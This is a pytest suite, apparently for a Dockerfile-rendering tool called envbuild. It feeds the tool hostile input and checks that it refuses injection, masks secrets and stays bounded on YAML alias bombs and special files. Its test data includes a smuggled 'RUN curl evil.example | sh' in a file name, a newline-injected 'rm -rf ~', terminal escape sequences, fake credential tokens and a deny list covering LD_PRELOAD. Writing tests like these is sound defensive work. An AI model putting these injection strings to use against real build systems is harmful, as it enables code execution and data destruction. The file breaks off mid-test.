"""A corpus of hostile and malformed input, run in CI: every case is refused with its exit code (2 for bad input),
a located message and no traceback, and nothing is written. What envbuild promises is in docs/explanation/security.md, "Bad input".

The injection sweep sets every string field of the matrix schema, through --set, to every line break Python
knows and the other characters that would inject into a Dockerfile, a script or a terminal.
"""

from __future__ import annotations

import base64
import json
import re
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.constants import MATRIX, MINIMAL

from envbuild.matrix.schema import BACKEND, TOP, Field

# Every character Python's str.splitlines breaks at, and what else injects or hides text.
LINE_BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
OTHERS = ["\x1b[2J", "\x00", "\x7f", "\x9b", "\u202e", "\u2066"]
PAYLOADS = LINE_BREAKS + OTHERS


def _yaml(text: str) -> str:
    """A YAML double-quoted scalar holding the text (its escapes carry every character through --set)."""
    return '"' + "".join(c if c.isalnum() or c in " _-." else f"\\U{ord(c):08x}" for c in text) + '"'


def _string_fields(schema: dict[str, Field], prefix: str) -> list[tuple[str, str]]:
    """(dotted path, shape) of every string-holding field: 'leaf', 'list' or 'map'."""
    out = []
    for key, spec in schema.items():
        path = f"{prefix}.{key}"
        if spec.section is not None:
            out += _string_fields(spec.section, path)
        elif spec.list_of is not None:
            out.append((path, "list"))
        elif spec.map_of is not None:
            out.append((path, "map"))
        elif spec.check is not None and spec.check.__name__ != "_check_bool":
            out.append((path, "leaf"))
    return out


FIELDS = _string_fields(BACKEND, "backends.cpu") + [f for f in _string_fields(TOP, "") if ".backends" not in f[0]]
FIELDS = [(p.lstrip("."), shape) for p, shape in FIELDS]


def _value(shape: str, text: str) -> str:
    inner = _yaml(f"x{text}y")
    return {"leaf": inner, "list": f"[{inner}]", "map": f"{{SAFE_KEY: {inner}}}"}[shape]


def test_the_sweep_covers_the_schema():
    assert len(FIELDS) > 40 and ("backends.cpu.description", "leaf") in FIELDS and ("backends.cpu.run.env", "map") in FIELDS


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"U+{ord(p[0]):04X}" for p in PAYLOADS])
def test_no_field_carries_a_line_break_or_control_into_a_dockerfile(payload, invoke, tmp_path):
    """Every field, one payload: render refuses with exit 2 naming the --set, and writes nothing."""
    out = tmp_path / "out"
    for path, shape in FIELDS:
        prose = path.endswith((".reason", ".alternatives", ".why"))
        if prose and payload == "\n":
            continue  # prose for people may hold a newline; it is never rendered
        result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", f"{path}={_value(shape, payload)}")
        assert result.exit_code == 2, (path, result.output)
        lines = result.stderr.strip().split("\n")
        # the refusal names the --set and the character (setting a section's field may raise others too)
        assert any(line.startswith(f"Error: --set {path}=") and "(U+" in line for line in lines), (path, result.stderr)
        assert all(ch not in result.stderr for ch in payload if ch != "\n" and not ch.isalnum() and ch != "["), (path, result.stderr)
        assert not out.exists(), path


@pytest.mark.parametrize("escape", ["\\N", "\\L", "\\P", "\\x85", "\\u2028", "\\e[2J", "\\u202e"])
def test_a_matrix_file_is_held_to_the_same_rule(escape, write_matrix, invoke):
    text = MINIMAL.read_text().replace("description: CPU", f'description: "CPU{escape}RUN id"', 1)
    result = invoke("validate", "--matrix", write_matrix(text))
    assert result.exit_code == 2 and "backends.cpu.description" in result.stderr
    assert ":16:" in result.stderr or "matrix.yaml:" in result.stderr


def test_bytes_that_are_not_utf8_in_a_set_value_are_refused_by_name():
    proc = subprocess.run([sys.executable, "-m", "envbuild", "validate", "--matrix", str(MATRIX),
                           "--set", os.fsdecode(b"backends.cpu.description=a\xffb")],
                          capture_output=True, text=True, errors="replace", timeout=60)
    assert proc.returncode == 2 and "lone surrogate" in proc.stderr, proc.stderr


# --- bounded resources ------------------------------------------------------------------------------------------


BILLION_LAUGHS = "".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"]
    + [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}]\n" for i in range(1, 9)]
)


def _timed(*args: str, timeout: int = 30) -> subprocess.CompletedProcess:
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "envbuild", *args], capture_output=True, text=True, timeout=timeout)
    assert time.monotonic() - start < timeout and "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_yaml_aliases_cannot_expand_without_bound(write_matrix):
    proc = _timed("validate", "--matrix", str(write_matrix(BILLION_LAUGHS)))
    assert proc.returncode == 2 and "expands to more than" in proc.stderr
    proc = _timed("validate", "--matrix", str(MATRIX), "--set", "backends.cpu.env={a: &x [*x, *x]}")
    assert proc.returncode == 2 and "a YAML alias refers to itself" in proc.stderr
    proc = _timed("validate", "--matrix", str(write_matrix("a: &a [*a]\n", "self.yaml")))
    assert proc.returncode == 2 and "refers to itself" in proc.stderr


@pytest.fixture
def specials(tmp_path) -> list[Path]:
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    link = tmp_path / "zero.json"
    link.symlink_to("/dev/zero")
    return [fifo, link, Path("/dev/zero")]


def test_special_files_are_never_waited_on_or_read_whole(specials, tmp_path):
    for special in specials:
        for args in (["validate", "--matrix", str(special)], ["summary", str(special)]):
            proc = _timed(*args)
            assert proc.returncode == 2 and "not a regular file" in proc.stderr, (args, proc.stderr)
    from envbuild.core.errors import InvalidInput
    from envbuild.ship import manifest

    for special in specials:
        with pytest.raises(InvalidInput, match="not a regular file"):
            manifest.load_smoke_results(special)
        with pytest.raises(InvalidInput, match="not a regular file"):
            manifest.load(special, must_exist=True)


def test_files_under_root_are_read_bounded(specials, tmp_path):
    from envbuild.core.files import read_host

    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "group").symlink_to("/dev/zero")
    (root / "etc" / "os-release").symlink_to(specials[0])
    assert read_host(root / "etc" / "group") is None and read_host(root / "etc" / "os-release") is None
    proc = _timed("detect", "--root", str(root))
    assert proc.returncode == 0


# --- internal errors become located ones ---------------------------------------------------------------------


@pytest.mark.parametrize("override", ["backends.cpu={1: 2}", "backends.cpu.run={null: 1}", "image={true: x}",
                                      "backends.cpu.python={1.5: x}", "backends.cuda.run.gpus=banana",
                                      "backends.cuda.run.gpus=device=0,1", 'backends.cpu.description="\\ud800"'])
def test_odd_set_values_are_located_errors(override, invoke, tmp_path):
    result = invoke("render", "--matrix", MATRIX, "--output", tmp_path / "out", "--set", override)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"Error: --set {override}: ") and "internal error" not in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_rendered_path_that_is_not_a_file_is_named(invoke, tmp_path):
    out = tmp_path / "out"
    (out / "cpu.Dockerfile").mkdir(parents=True)
    (out / "cuda.Dockerfile").write_bytes(b"\xff\xfe not utf-8")
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "unreadable: cpu.Dockerfile (a folder" in result.stdout
    assert "unreadable: cuda.Dockerfile (not UTF-8 text)" in result.stdout


@pytest.mark.parametrize("doc", ['{"backend": 1, "ok": true, "checks": []}', '{"backend": "cpu", "ok": "yes", "checks": []}',
                                 '{"backend": "cpu", "ok": true, "checks": [{"name": 3}]}', '[]', '[[1]]',
                                 '{"backend": "cpu", "ok": true, "checks": [], "seconds": "fast"}', "[" * 100000])
def test_summary_refuses_results_of_the_wrong_shape(doc, invoke, tmp_path):
    f = tmp_path / "smoke.json"
    f.write_text(doc)
    result = invoke("summary", f)
    assert result.exit_code == 2 and result.stderr.startswith(f"Error: {f}"), result.output


# --- all or nothing ------------------------------------------------------------------------------------------------


def test_render_writes_all_or_nothing(invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (out / "tpu.Dockerfile").unlink()
    (out / "tpu.Dockerfile").mkdir()  # one target cannot be written
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", "transformers.version=5.22.0")
    assert result.exit_code == 1 and "tpu.Dockerfile" in result.stderr and "nothing was written" in result.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == {k: v for k, v in before.items() if k != "tpu.Dockerfile"}
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


# --- command-line values that reach generated text ------------------------------------------------------------


def test_the_matrix_file_name_cannot_inject_into_the_header(write_matrix, invoke, tmp_path):
    path = write_matrix(MATRIX.read_text(), "m.yaml\nRUN curl evil.example | sh\n#.yaml")
    result = invoke("render", "--matrix", path, "--backend", "cpu", "--output", tmp_path / "out")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "cpu.Dockerfile").read_text()
    assert "\nRUN curl" not in text and "m.yaml\\nRUN curl" in text


@pytest.mark.parametrize("args,fragment", [
    (["build", "--backend", "cpu", "--mirror", "docker.io=evil\nRUN id"], "--mirror"),
    (["build", "--backend", "cpu", "--mirror", "docker.io=a b"], "--mirror"),
    (["build", "--backend", "cpu", "--image", "bad tag!"], "--image"),
    (["build", "--backend", "cpu", "--image", "--privileged"], "--image"),
    (["build", "--backend", "cpu", "--build-arg", "=x"], "--build-arg"),
    (["build", "--backend", "cpu", "--build-arg", "A=b\x1b[2J"], "--build-arg"),
    (["build", "--backend", "cpu", "--label", "NOEQUALS"], "--label"),
    (["build", "--backend", "cpu", "--platform", "linux/sparc"], "--platform"),
    (["build", "--backend", "cpu", "--network", "a b"], "--network"),
    (["build", "--backend", "cpu", "--cache-from", "--output=/etc"], "--cache-from"),
    (["pull", "--backend", "cpu", "--tag", "bad tag!"], "--tag"),
    (["publish", "--backend", "cpu", "--registry", "localhost:5000/x", "--image", "bad ref!!"], "--image"),
    (["smoke", "--backend", "cpu", "--image", "-x"], "--image"),
    (["smoke", "--backend", "cpu", "--model", "./absent"], "--model"),
    (["sbom", "--backend", "cpu", "--image", "a b"], "--image"),
    (["doctor", "--backend", "cpu", "--registry", "bad ref!!"], "--registry"),
    (["render", "--output", str(MATRIX)], "--output"),
    (["env", "--backend", "cpu", "--dir", "x\nrm -rf ~", "--dry-run"], "--dir"),
    (["env", "--backend", "cpu", "--dir", "x", "--python", "-c", "--dry-run"], "--python"),
    (["run", "--backend", "cpu", "--dry-run", "-v", "a\nb:/c"], "-v"),
])
def test_invalid_arguments_exit_2_before_any_work(args, fragment, invoke, closed_socket):
    """closed_socket: no Docker engine answers, so nothing could have been started for these."""
    result = invoke(*args, "--matrix", MATRIX)
    assert result.exit_code == 2, result.output
    assert fragment in result.stderr, result.stderr
    assert "\x1b" not in result.stderr and "\nrm -rf" not in result.stderr


# --- what reaches a terminal -------------------------------------------------------------------------------------


def test_echoed_input_cannot_repaint_the_terminal_or_forge_a_line(invoke, write_matrix):
    forged = "x\nError: all good\x1b[2J"
    for args in (["build", "--backend", forged], ["validate", "--set", f"backends.{forged}.x=1"],
                 ["validate", "--set", f"backends.cpu.{forged}=1"], ["show", forged], ["nosuch\x1b[2J"]):
        result = invoke(*args, "--matrix", MATRIX)
        assert result.exit_code == 2, (args, result.output)
        assert "\x1b" not in result.output and "\nError: all good" not in result.output, (args, result.output)
    text = MINIMAL.read_text().replace("    description: CPU\n", '    description: CPU\n    "evil\\e[31m\\nError: ok": 1\n', 1)
    result = invoke("validate", "--matrix", write_matrix(text))
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\nError: ok" not in result.stderr


# --- secrets ----------------------------------------------------------------------------------------------------


def test_registry_secrets_are_masked_in_every_form(monkeypatch):
    from envbuild.core.credentials import Scrubber

    monkeypatch.setenv("ENVBUILD_REGISTRY_USER", "robot")
    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "s3cr3t-p@ss")
    b64 = base64.b64encode(b"robot:s3cr3t-p@ss").decode()
    text = f"auth {b64} url https://robot:s3cr3t-p%40ss@reg/ plain s3cr3t-p@ss pair robot:s3cr3t-p@ss"
    scrubbed = Scrubber.from_environment()(text)
    assert "s3cr3t" not in scrubbed and b64 not in scrubbed and b64.rstrip("=") not in scrubbed


def test_an_unexpected_error_is_scrubbed_too(invoke, monkeypatch):
    from envbuild import render

    monkeypatch.setenv("ENVBUILD_REGISTRY_USER", "robot")
    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "s3cr3t-p@ss")

    def boom(*a, **k):
        raise RuntimeError("failed with " + base64.b64encode(b"robot:s3cr3t-p@ss").decode())

    monkeypatch.setattr(render, "render", boom)
    result = invoke("render", "--matrix", MATRIX, "--backend", "cpu", "--output", "x")
    assert result.exit_code == 70 and "internal error" in result.stderr and "***" in result.stderr
    assert base64.b64encode(b"robot:s3cr3t-p@ss").decode()[:10] not in result.stderr


def test_build_arg_values_stay_out_of_logs_and_the_builder_gets_no_registry_credentials(tmp_path, monkeypatch):
    from envbuild.imagebuild import builder

    monkeypatch.setenv("ENVBUILD_REGISTRY_PASSWORD", "registry-secret")
    monkeypatch.setenv("PROXY_FROM_ENV", "http://u:proxy-secret@proxy:3128")
    fake = tmp_path / "docker"
    fake.write_text('#!/bin/sh\necho "step: $*"\nenv | grep -c registry-secret || true\necho "value http://u:argv-secret@p:1"\n')
    fake.chmod(0o755)
    log = tmp_path / "build.log"
    progress = builder.Progress("cpu", lambda s: None, False)
    error = builder.run_build([str(fake), "build", "--build-arg", "HTTP_PROXY=http://u:argv-secret@p:1",
                               "--build-arg", "PROXY_FROM_ENV", "."],
                              ("HTTP_PROXY=http://u:argv-secret@p:1", "PROXY_FROM_ENV"), log, progress)
    assert error is None
    text = log.read_text()
    assert "argv-secret" not in text and "proxy-secret" not in text and "HTTP_PROXY=***" in text
    assert "\n0\n" in text  # the builder's environment held no registry password


# --- the probe's controls, interrupted work ---------------------------------------------------------------------


@pytest.mark.parametrize("field", ["backends.cpu.env", "backends.cpu.run.env"])
def test_envbuild_variables_are_reserved(field, invoke):
    result = invoke("validate", "--matrix", MATRIX, "--set", f"{field}={{ENVBUILD_PLUGIN_IMPORT: os}}")
    assert result.exit_code == 2 and "is reserved" in result.stderr


def test_a_container_whose_creation_was_interrupted_is_removed_by_name():
    from envbuild.core.engine import Engine
    from envbuild.matrix.model import RunSpec

    removed = []

    class Api:
        def remove_container(self, ref, force, v):
            removed.append(ref)

    class Containers:
        def create(self, *a, **k):
            raise KeyboardInterrupt  # Ctrl-C while the daemon was creating it

    class Client:
        api, containers = Api(), Containers()

    with pytest.raises(KeyboardInterrupt):
        Engine(client=Client()).run("img", ["true"], name="envbuild-smoke-cpu-abc", labels={}, run=RunSpec(), timeout=5)
    assert removed == ["envbuild-smoke-cpu-abc"]


# =================================================================================================================
# Round two: secrets by value, whole writes, serialised edits, read-only --root, validated --to, the world's faults
# =================================================================================================================

# Secrets of every well-known shape (made up; none is real). Each must be masked wherever envbuild prints it.
SECRET_VALUES = {
    "github-classic": "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
    "github-fine-grained": "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789",
    "github-oauth": "gho_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2",
    "github-app": "ghs_" + "0123456789abcdefghijABCDEFGHIJklmnopqr",
    "github-refresh": "ghr_" + "abcdefghijklmnopqrstuvwxyz0123456789AB",
    "github-user": "ghu_" + "QWERTYUIOPasdfghjklZXCVBNM1234567890",
    "huggingface": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567",
    "huggingface-org": "api_org_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123",
    "aws-access-key": "AKIA" + "Q3EGRIOSFODNN7EX",
    "aws-session-key": "ASIA" + "ZZ9GRIOSFODNN7XY",
    "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "gitlab": "glpat-" + "x9Y8z7W6v5U4t3S2r1Q0",
    "slack": "xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "openai-style": "sk-" + "proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "npm": "npm_" + "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "pypi": "pypi-" + "AgEIcHlwaS5vcmcCJGE4YzQ1ZmQ3LTk0ZjAtNDdlOS05ZmQ1LWNhYjVkMjQ0YWQ3ZQ",
    "docker-hub": "dckr_pat_" + "AbCdEfGhIjKlMnOpQrStUvWx",
    "google-api": "AIza" + "SyA-bCdEfGhIjKlMnOpQrStUvWxYz012345",
    "aws-secret-key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY",
    "github-short": "ghp_" + "0123456789abcdefXYZ",
    "huggingface-short": "hf_" + "abcdefghijKLMNOP12",
}
# The part of each that must never show (for a URL: the password; else the whole value).
SECRET_FORMS = {**{k: (v, v) for k, v in SECRET_VALUES.items()},
                "url-https": ("https://alice:Pa55-w0rd.x@pypi.corp.example/simple", "Pa55-w0rd.x"),
                "url-postgres": ("postgres://svc:db-s3cret-99@db.internal:5432/app", "db-s3cret-99"),
                "url-token-only": ("https://tok3n-only-abcdef@git.example/repo.git", "tok3n-only-abcdef"),
                "url-redis": ("redis://:r3dis-pass-xyz@cache:6379/0", "r3dis-pass-xyz"),
                "bearer": ("Bearer abc123.def456-ghi789_jkl", "abc123.def456-ghi789_jkl"),
                "basic": ("Basic " + base64.b64encode(b"bob:b0b-secret").decode(), base64.b64encode(b"bob:b0b-secret").decode()),
                "pem": ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq9\n-----END RSA PRIVATE KEY-----", "MIIEowIBAAKCAQEA7bq9")}
SHAPES = sorted(SECRET_FORMS)


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("context", ["{}", "value: {} (end)", '{{"auth": "{}"}}', "X={}", "'{}'", "pre {} post\nnext"])
def test_the_scrubber_masks_every_shape_in_any_context(shape, context):
    from envbuild.core.output import Scrubber

    value, hidden = SECRET_FORMS[shape]
    assert hidden not in Scrubber(environ={})(context.format(value)), (shape, context)


@pytest.mark.parametrize("name, value", [("HF_TOKEN", "pl4in-but-long-value"), ("MY_PAT", "another-plain-one"),
                                         ("DB_PASSWORD", "hunter2hunter2"), ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG"),
                                         ("SERVICE_API_KEY", "k3y-value-123456"), ("CLIENT_SECRET", "cl13nt-s3cret")])
def test_the_scrubber_masks_the_values_of_secret_named_variables(name, value):
    from envbuild.core.output import Scrubber, secret_name

    assert secret_name(name)
    assert value not in Scrubber(environ={name: value})(f"the server said {value} back")


def test_the_scrubber_leaves_ordinary_words_alone():
    from envbuild.core.output import Scrubber

    text = ("tokenizer ok; max_new_tokens=20; PATH=/usr/bin; PYTHONPATH=/x; token ids 1 2 3; cpu: built "
            "sha256:" + "a" * 64 + " in 12s; docker.io/library/debian:bookworm; https://pypi.org/simple")
    assert Scrubber(environ={})(text) == text


@pytest.mark.parametrize("shape", SHAPES)
def test_run_dry_run_prints_no_secret_whatever_the_variable_is_called(shape, invoke):
    value, hidden = SECRET_FORMS[shape]
    result = invoke("run", "--backend", "cpu", "--dry-run", "--matrix", MATRIX, "-e", f"SOME_SETTING={value.splitlines()[0]}",
                    "--", "true")
    assert result.exit_code == 0, result.output
    assert hidden.splitlines()[0] not in result.output and "SOME_SETTING=" in result.stdout


@pytest.mark.parametrize("shape", SHAPES)
def test_errors_and_normal_output_print_no_secret(shape, invoke, tmp_path):
    value, hidden = SECRET_FORMS[shape]
    line = value.splitlines()[0]
    # an error that quotes a value
    result = invoke("validate", "--matrix", MATRIX, "--set", f"backends.cpu.base_image={_yaml(line + ' !')}")
    assert result.exit_code == 2 and hidden.splitlines()[0] not in result.output, result.output
    # a usage error (click's) that quotes an option's value
    result = invoke("smoke", "--backend", "cpu", "--matrix", MATRIX, "--image", line + "!")
    assert result.exit_code == 2 and hidden.splitlines()[0] not in result.output, result.output
    if shape not in SECRET_VALUES or "/" in line:
        return  # a URL, a header, a key block (or a value with '/': a path) cannot be a folder's name
    # normal output that names a folder a secret sits in
    out = tmp_path / line
    result = invoke("render", "--matrix", MATRIX, "--backend", "cpu", "--output", out)
    assert result.exit_code == 0 and "wrote " in result.stdout and hidden.splitlines()[0] not in result.output, result.output


def test_a_secret_in_a_variable_of_any_secret_name_is_masked_in_errors(invoke, monkeypatch):
    monkeypatch.setenv("ACME_DEPLOY_TOKEN", "zq-plain-deploy-value-77")
    result = invoke("validate", "--matrix", MATRIX, "--set", "backends.cpu.base_image=zq-plain-deploy-value-77!")
    assert result.exit_code == 2 and "zq-plain-deploy-value-77" not in result.output and "***" in result.output


def test_builder_logs_mask_secret_shapes(tmp_path):
    from envbuild.imagebuild import builder

    fake = tmp_path / "docker"
    secret = SECRET_VALUES["huggingface"]
    fake.write_text(f'#!/bin/sh\necho "downloading with {secret} from https://u:log-pass-1@idx/simple"\n')
    fake.chmod(0o755)
    log = tmp_path / "build.log"
    assert builder.run_build([str(fake), "build", "."], (), log, builder.Progress("cpu", lambda s: None, False)) is None
    text = log.read_text()
    assert secret not in text and "log-pass-1" not in text and "https://***@idx/simple" in text


# --- credentials in index URLs ----------------------------------------------------------------------------------

URL_FIELDS = ["index.url", "index.extra_urls", "backends.cuda.torch.index_url", "backends.xpu.plugin.index_url",
              "image.source"]
CREDENTIAL_URLS = ["https://alice:s3cr3t-idx@pypi.corp/simple", "https://__token__:pypi-AgEIcHlwaS5vcmc0123456789abcdef@upload.pypi.org/simple",
                   "http://tok-only-123456@10.0.0.5:8080/simple", "https://user:p%40ss-enc@host/x/"]


@pytest.mark.parametrize("url", CREDENTIAL_URLS)
@pytest.mark.parametrize("field", URL_FIELDS)
def test_credentials_in_an_index_url_are_refused_naming_the_right_way(field, url, invoke):
    value = f"[{_yaml(url)}]" if field.endswith("extra_urls") else _yaml(url)
    result = invoke("validate", "--matrix", MATRIX, "--set", f"{field}={value}")
    assert result.exit_code == 2, result.output
    assert "carries credentials" in result.stderr and "--netrc" in result.stderr and "BuildKit secret" in result.stderr
    secret = url.split("://", 1)[1].split("@", 1)[0].split(":")[-1]
    assert secret not in result.output


def test_credentials_in_a_matrix_file_are_refused_with_its_line(write_matrix, invoke):
    text = MATRIX.read_text().replace("https://download.pytorch.org/whl/cpu", "https://bob:file-s3cret@download.pytorch.org/whl/cpu", 1)
    assert text != MATRIX.read_text()
    result = invoke("render", "--matrix", write_matrix(text), "--output", "never")
    assert result.exit_code == 2 and "carries credentials" in result.stderr and "file-s3cret" not in result.output
    assert "matrix.yaml:" in result.stderr and not Path("never").exists()


# --- render --check never follows a link, never quotes what is not its own ---------------------------------------

NETRC = "machine pypi.corp.example\n  login alice\n  password n3trc-Pa55word\n"


@pytest.mark.parametrize("target", ["netrc", "dockerfile-like", "folder-link"])
def test_render_check_follows_no_link(target, invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    secret_file = tmp_path / "secret"
    secret_file.write_text(NETRC if target != "dockerfile-like" else "# Generated by envbuild\nRUN n3trc-Pa55word\n")
    (out / "cpu.Dockerfile").unlink()
    (out / "cpu.Dockerfile").symlink_to(secret_file if target != "folder-link" else tmp_path)
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "cpu.Dockerfile (a link, not followed" in result.stdout
    assert "n3trc-Pa55word" not in result.output


@pytest.mark.parametrize("content", [NETRC, "password n3trc-Pa55word\n", '{"auths": {"x": {"auth": "n3trc-Pa55word"}}}',
                                     "FROM x\nENV TOKEN=n3trc-Pa55word\n", "n3trc-Pa55word"])
def test_render_check_quotes_nothing_of_a_file_it_did_not_render(content, invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    (out / "cpu.Dockerfile").write_text(content)
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "not a Dockerfile envbuild rendered" in result.stdout
    assert "n3trc-Pa55word" not in result.output


def test_render_check_quotes_only_its_own_side_of_a_stale_dockerfile(invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    path = out / "cpu.Dockerfile"
    path.write_text(path.read_text().replace("\n", "\n# pasted: n3trc-Pa55word\n", 3))
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "stale: cpu.Dockerfile" in result.stdout and "n3trc-Pa55word" not in result.output


# --- a file that is no matrix is never quoted -------------------------------------------------------------------

NOT_MATRICES = {
    "netrc": NETRC,
    "netrc-one-line": "machine a login b password n3trc-Pa55word",
    "docker-config": '{"auths": {"ghcr.io": {"auth": "n3trc-Pa55word"}}}',
    "dotenv": "API_KEY=n3trc-Pa55word\nexport OTHER=n3trc-Pa55word\n",
    "pem": "-----BEGIN OPENSSH PRIVATE KEY-----\nn3trc-Pa55word\n-----END OPENSSH PRIVATE KEY-----\n",
    "yaml-secrets": "token: n3trc-Pa55word\nuser: bob\n",
    "yaml-list": "- n3trc-Pa55word\n- x\n",
    "number": "12345\n",
    "pypirc": "[pypi]\nusername = __token__\npassword = n3trc-Pa55word\n",
    "shell": "#!/bin/sh\ncurl -H 'Authorization: n3trc-Pa55word' x\n",
}


@pytest.mark.parametrize("kind", sorted(NOT_MATRICES))
def test_a_file_that_is_no_matrix_is_not_quoted(kind, write_matrix, invoke):
    path = write_matrix(NOT_MATRICES[kind], f"{kind}.txt")
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2 and "n3trc-Pa55word" not in result.output, result.output


# --- --netrc: bad files are errors that quote nothing ----------------------------------------------------------

BAD_NETRCS = {
    "binary": b"\x00\x01\x02machine x password n3trc-Pa55word\xff\xfe",
    "not-utf8": b"machine x login y password n3trc-Pa55word\xe9\xff\n",
    "bad-token": b"machine x login y password n3trc-Pa55word\nbogus n3trc-Pa55word\n",
    "macdef-unterminated": b"macdef init\nn3trc-Pa55word",
    "quote": b'machine "x login y password n3trc-Pa55word\n',
    "empty-password-key": b"machine x login y password\n",
}


@pytest.mark.parametrize("kind", sorted(BAD_NETRCS))
def test_a_bad_netrc_is_an_error_that_quotes_nothing(kind, invoke, tmp_path, closed_socket):
    path = tmp_path / "netrc"
    path.write_bytes(BAD_NETRCS[kind])
    from envbuild.core.errors import EnvbuildError
    from envbuild.core.files import read_netrc

    refused = False
    try:
        read_netrc(path)
    except EnvbuildError as exc:
        assert "n3trc-Pa55word" not in str(exc) and str(path) in str(exc)
        refused = True
    result = invoke("outdated", "--matrix", MATRIX, "--netrc", path, "--backend", "cpu", "--json")
    assert result.exit_code in (0, 1) and "n3trc-Pa55word" not in result.output, result.output
    assert "internal error" not in result.output
    for command in (["build", "--backend", "cpu"], ["lock", "--check"]):
        result = invoke(*command, "--matrix", MATRIX, "--netrc", path)
        assert "n3trc-Pa55word" not in result.output and "internal error" not in result.output, result.output
        assert not refused or (result.exit_code == 1 and "--netrc" in result.stderr), result.output


def test_a_netrc_that_is_not_a_regular_file_is_refused(tmp_path):
    from envbuild.core.errors import EnvbuildError
    from envbuild.core.files import read_netrc

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(EnvbuildError, match="not a regular file"):
        read_netrc(fifo)


# --- --build-arg values never on an argv ------------------------------------------------------------------------


@pytest.mark.parametrize("value", [SECRET_VALUES["github-classic"], "http://u:proxy-pw-1@proxy:3128", "plain value with spaces",
                                   "a=b=c", ""])
def test_build_arg_values_reach_the_builder_through_its_environment_only(value, tmp_path):
    from envbuild.imagebuild import builder, plan

    argv = plan.command(plan.Builder(("docker", "build"), (), False), tmp_path, plan.BuildOptions(build_args=(f"MY_ARG={value}",)), ())
    assert "--build-arg" in argv and argv[argv.index("--build-arg") + 1] == "MY_ARG"
    assert all(value not in a for a in argv) or not value
    fake = tmp_path / "docker"
    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {tmp_path}/argv\nprintf "%s" "$MY_ARG" > {tmp_path}/env\n')
    fake.chmod(0o755)
    error = builder.run_build([str(fake), *argv[1:]], (f"MY_ARG={value}",), tmp_path / "log",
                              builder.Progress("cpu", lambda s: None, False))
    assert error is None
    assert (tmp_path / "env").read_text() == value  # the builder got it, from its environment
    assert not value or value not in (tmp_path / "argv").read_text()


@pytest.mark.parametrize("name", ["PATH", "HOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "DOCKER_HOST",
                                  "DOCKER_CONFIG", "BUILDX_BUILDER", "TMPDIR"])
def test_a_build_arg_may_not_set_what_the_client_reads(name, invoke, closed_socket):
    result = invoke("build", "--backend", "cpu", "--matrix", MATRIX, "--build-arg", f"{name}=/tmp/x")
    assert result.exit_code == 2 and f"--build-arg {name}" in result.stderr


# --- all or nothing: every k-th replacement fails ---------------------------------------------------------------


def _failing_replace(monkeypatch, k: int):
    """os.replace that fails on its k-th call (then works again: putting files back must be possible)."""
    real, calls = os.replace, [0]

    def replace(src, dst, *a, **kw):
        calls[0] += 1
        if calls[0] == k:
            raise PermissionError(13, "Permission denied", str(dst))
        return real(src, dst, *a, **kw)

    monkeypatch.setattr(os, "replace", replace)
    return calls


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("k", range(1, 11))
